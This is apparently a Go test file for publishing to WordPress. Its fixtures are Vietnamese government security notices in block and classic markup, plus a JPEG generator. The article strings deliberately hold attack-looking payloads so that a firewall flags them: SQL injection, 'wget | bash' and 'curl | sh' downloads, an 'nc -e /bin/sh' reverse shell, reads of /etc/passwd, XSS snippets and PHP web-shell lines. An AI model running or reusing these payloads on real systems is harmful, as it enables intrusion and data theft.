package wordpress_test

import (
	"bytes"
	"image"
	"image/color"
	"image/jpeg"
	"math/rand/v2"
	"testing"
)

// article is what a provincial IT office publishes: Vietnamese prose, a table,
// and code that a WAF takes for attacks.
const articleTitle = `Hướng dẫn "an toàn thông tin" & tra cứu cơ sở dữ liệu`

const article = `<!-- wp:heading --><h2>Kiểm tra lỗ hổng <em>SQL injection</em></h2><!-- /wp:heading -->
<!-- wp:paragraph --><p>Công chức phụ trách cần phân biệt dữ liệu với câu lệnh; xem <a href="https://bocongan.example.gov.vn/canh-bao?id=12&amp;muc=ha-tang">cảnh báo</a> và <strong>không</strong> ghép chuỗi.</p><!-- /wp:paragraph -->
<!-- wp:list --><ul><li>Sao lưu dữ liệu; kiểm tra bản sao</li><li>Đổi mật khẩu &amp; khóa tài khoản</li><li>Không mở tệp <code>/etc/passwd</code>, <code>C:\boot.ini</code>, <code>wp-config.php</code></li></ul><!-- /wp:list -->
<!-- wp:code --><pre class="wp-block-code"><code>SELECT u.id, u.ho_ten FROM nguoi_dung u WHERE u.ten = '' OR '1'='1' -- luôn đúng
UNION ALL SELECT NULL, table_name FROM information_schema.tables;
DROP TABLE IF EXISTS nhat_ky; INSERT INTO t VALUES (1, sleep(5), benchmark(10,md5(1)));
EXEC xp_cmdshell 'dir'; SELECT * INTO OUTFILE '/tmp/x' FROM users;</code></pre><!-- /wp:code -->
<!-- wp:code --><pre class="wp-block-code"><code>#!/bin/bash
wget -q -O - https://kho.example.gov.vn/cai-dat.sh | bash -s -- --yes; rm -rf /tmp/cu
cat /etc/passwd | grep -v nologin &amp;&amp; curl -fsS http://127.0.0.1:8080/ || echo $(whoami) ${HOME} ` + "`id`" + `
find / -name '*.php' -exec grep -l 'eval(base64_decode' {} \; ; nc -e /bin/sh 10.0.0.1 4444
powershell.exe -NoProfile -Command "Get-Process | Stop-Process"; ping -n 3 10.0.0.2</code></pre><!-- /wp:code -->
<!-- wp:code --><pre class="wp-block-code"><code>&lt;script&gt;alert(document.cookie)&lt;/script&gt; &lt;img src=x onerror="alert(1)"&gt; &lt;a href="javascript:void(0)"&gt;thử&lt;/a&gt;
&lt;iframe src="https://www.example.gov.vn/"&gt;&lt;/iframe&gt; &lt;form action="/dang-nhap"&gt;&lt;input name="ten"&gt;&lt;/form&gt; &lt;style&gt;p{color:red}&lt;/style&gt;
&lt;?php system($_GET['cmd']); echo file_get_contents('php://input'); phpinfo(); $f = base64_decode($_POST['x']); ?&gt;
const a = require('child_process').exec('ls'); process.env.HOME; {{7*7}} #{7*7}
class Foo { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec("id"); new java.lang.ProcessBuilder("id"); } }</code></pre><!-- /wp:code -->
<!-- wp:table --><figure class="wp-block-table"><table><thead><tr><th>Cột</th><th>Kiểu</th></tr></thead><tbody><tr><td>id</td><td>int(11) NOT NULL AUTO_INCREMENT</td></tr><tr><td>ghi_chú</td><td>varchar(255) DEFAULT 'không'</td></tr></tbody></table></figure><!-- /wp:table -->
<!-- wp:html --><iframe width="560" height="315" src="https://www.youtube.com/embed/aqz-KE-bpKQ?rel=0&amp;start=10" title="Phóng sự" frameborder="0" allow="accelerometer; autoplay; clipboard-write" allowfullscreen></iframe><!-- /wp:html -->
<!-- wp:paragraph {"style":{"color":{"text":"#b00020"}}} --><p class="has-text-color" style="color:#b00020">Chi phí: 50% &lt; 3.000.000 đồng; liên hệ ông Nguyễn Văn A (O'Brien &amp; cộng sự) – "gấp".</p><!-- /wp:paragraph -->
<!-- wp:quote --><blockquote class="wp-block-quote"><p>Update your systems; select a password from the list, or drop in at the office.</p></blockquote><!-- /wp:quote -->`

// classicArticle is the same matter as TinyMCE's visual mode stores it: styles on
// elements, live frames, no block comments.
const classicArticle = `<h3 style="text-align: center;">Thông báo khẩn</h3>
<p style="text-align: justify;"><span style="color: #ff0000; font-family: 'times new roman', times;">Đề nghị các đơn vị</span> rà soát; câu lệnh sau liệt kê tài khoản:</p>
<pre>SELECT user_login, user_pass FROM wp_users WHERE ID=1 OR 1=1 UNION SELECT 1,2--
cat /etc/passwd; curl http://10.0.0.1/x.sh | sh
&lt;script&gt;alert('xss')&lt;/script&gt; &lt;?php eval($_POST['c']); ?&gt;</pre>
<table style="width: 100%;" border="1"><tbody><tr><td onclick="">Số</td><td>Nội dung</td></tr></tbody></table>
<a href="/wp-content/uploads/cong-van.pdf">Công văn</a> <img class="aligncenter" src="/wp-content/uploads/anh.jpg" alt="Ảnh 'lễ' hội" width="300" height="200" />
<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" width="560" height="315" allowfullscreen="allowfullscreen"></iframe>
[caption id="attachment_6" align="alignnone" width="300"]Ảnh[/caption] [gallery ids="1,2"]`

// photo is a JPEG of about the given edge; noise keeps it as large as a real one.
func photo(t *testing.T, edge int) []byte {
	t.Helper()
	r := rand.New(rand.NewPCG(1, 2))
	m := image.NewRGBA(image.Rect(0, 0, edge, edge*2/3))
	for i := range m.Pix {
		m.Pix[i] = byte(r.Uint32())
	}
	for x := range edge {
		m.Set(x, x*2/3, color.White)
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, m, &jpeg.Options{Quality: 85}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
